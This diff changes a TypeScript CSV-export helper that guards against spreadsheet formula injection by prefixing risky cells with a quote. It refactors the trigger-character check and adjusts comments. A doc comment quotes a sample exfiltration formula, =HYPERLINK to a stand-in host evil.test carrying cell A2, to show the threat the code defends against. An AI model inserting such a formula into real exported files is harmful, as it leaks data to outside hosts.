@@ -1,7 +1,7 @@
 /**
  * Spreadsheet formula injection (OWASP "CSV Injection", CWE-1236): Excel, LibreOffice and Google
- * Sheets run a cell that starts with `=`, `+`, `-` or `@` as a formula, and also one that starts
- * with a tab or a CR before such a character. A lead named `=HYPERLINK("https://evil.test?"&A2)`
+ * Sheets run a cell that starts with `=`, `+`, `-` or `@` as a formula (OWASP adds a leading tab
+ * or CR, which some of them skip before looking). A lead named `=HYPERLINK("https://evil.test?"&A2)`
  * in an export would run when the file is opened. OWASP's remedy is a leading `'`, which makes
  * the spreadsheet take the cell as text; every CSV `crm` writes gets it unless --raw.
  *
@@ -24,7 +24,14 @@
  */
 const QUOTE = 0x27; // '
 
-const TRIGGERS = new Set(['=', '+', '-', '@', '\t', '\r', '\0', '＝', '＋', '－', '＠'].map((c) => c.charCodeAt(0)));
+// A table for the ASCII ones (all below 'A'), so the common cell costs one comparison and one load.
+const ASCII_TRIGGERS = new Uint8Array(0x41);
+for (const c of ['=', '+', '-', '@', '\t', '\r', '\0']) ASCII_TRIGGERS[c.charCodeAt(0)] = 1;
+const FULL_WIDTH_TRIGGERS = ['＝', '＋', '－', '＠'].map((c) => c.charCodeAt(0));
+
+function isTrigger(code: number): boolean {
+  return code < 0x41 ? ASCII_TRIGGERS[code] === 1 : code >= 0xff0b && FULL_WIDTH_TRIGGERS.includes(code);
+}
 
 /** How JavaScript writes a negative number (String(-12.5)); nothing else that starts with `-`. */
 const PLAIN_NEGATIVE_NUMBER = /^-\d+(?:\.\d+)?(?:e[-+]\d+)?$/;
@@ -33,13 +40,13 @@ const PLAIN_NEGATIVE_NUMBER = /^-\d+(?:\.\d+)?(?:e[-+]\d+)?$/;
 function quotesThenTrigger(cell: string): boolean {
   let at = 0;
   while (cell.charCodeAt(at) === QUOTE) at++;
-  return TRIGGERS.has(cell.charCodeAt(at));
+  return isTrigger(cell.charCodeAt(at));
 }
 
-/** The cell as a spreadsheet will take as text. Called for every cell written: one charCodeAt for most. */
+/** The cell written so that a spreadsheet takes it as text. Called for every cell written: one charCodeAt for most. */
 export function escapeFormula(cell: string): string {
   const first = cell.charCodeAt(0);
-  if (first !== QUOTE && !TRIGGERS.has(first)) return cell;
+  if (first !== QUOTE && !isTrigger(first)) return cell;
   if (!quotesThenTrigger(cell) || PLAIN_NEGATIVE_NUMBER.test(cell)) return cell;
   return `'${cell}`;
 }
